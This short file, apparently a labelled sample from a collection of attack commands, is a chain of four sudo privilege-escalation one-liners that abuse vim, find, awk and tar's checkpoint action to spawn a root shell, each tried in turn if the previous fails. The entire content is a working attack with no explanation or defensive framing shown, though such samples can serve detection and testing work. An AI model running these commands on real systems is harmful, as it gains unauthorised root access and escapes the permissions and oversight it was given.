# class: privilege escalation through sudo programs; style: attempts in a row
sudo -n vim -c ':!/bin/sh' ||
sudo -n find . -exec /bin/sh \; -quit ||
sudo -n awk 'BEGIN {system("/bin/sh")}' ||
sudo -n tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
